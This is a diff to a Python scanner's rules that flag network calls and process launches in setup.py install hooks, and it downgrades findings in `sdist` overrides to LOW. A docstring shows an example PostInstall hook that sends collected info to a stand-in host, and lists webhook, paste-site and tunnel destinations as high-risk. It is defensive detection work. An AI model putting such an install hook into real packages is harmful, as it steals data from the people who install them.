@@ -160,6 +160,11 @@ def process_action(call: ast.Call, ctx: PyContext, via: str = "") -> tuple[str, 
     return f"`{name}` (`{shown}`)", Severity.MEDIUM
 
 
+def _grade_hook(via: str, severity: Severity) -> Severity:
+    """An `sdist` override runs when a maintainer builds the sdist, not on `pip install`."""
+    return Severity.LOW if via.startswith("`sdist`") else severity
+
+
 def _via(via: str, at: str) -> str:
     return f" in {via}" if via else f" at {at}"
 
@@ -185,7 +190,8 @@ def install_time_network_call(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
     Why it matters: code in `setup.py` runs on every `pip install` of an sdist, before the
     user has imported anything. A network call there is how install-time malware phones home
     or fetches its payload; builds that need sources normally declare them instead. HIGH when
-    the address is a raw IP, webhook, paste site, tunnel or file share.
+    the address is a raw IP, webhook, paste site, tunnel or file share; LOW in an `sdist`
+    override, which runs only when a maintainer builds the sdist.
 
     Example: `class PostInstall(install): def run(self): requests.get("https://x.example.invalid", params=info)`.
     """
@@ -196,7 +202,7 @@ def install_time_network_call(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
     if found:
         what, severity = found
         yield ctx.hit(node, f"setup.py makes a network call {what}{_via(via, 'top level')}",
-                      severity=severity)  # fmt: skip
+                      severity=_grade_hook(via, severity))  # fmt: skip
 
 
 @node_rule(
@@ -228,7 +234,7 @@ def install_time_process(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
     if found:
         what, severity = found
         yield ctx.hit(node, f"setup.py starts a process {what}{_via(via, 'top level')}",
-                      severity=severity)  # fmt: skip
+                      severity=_grade_hook(via, severity))  # fmt: skip
 
 
 def _install_script(ctx: PyContext) -> bool:
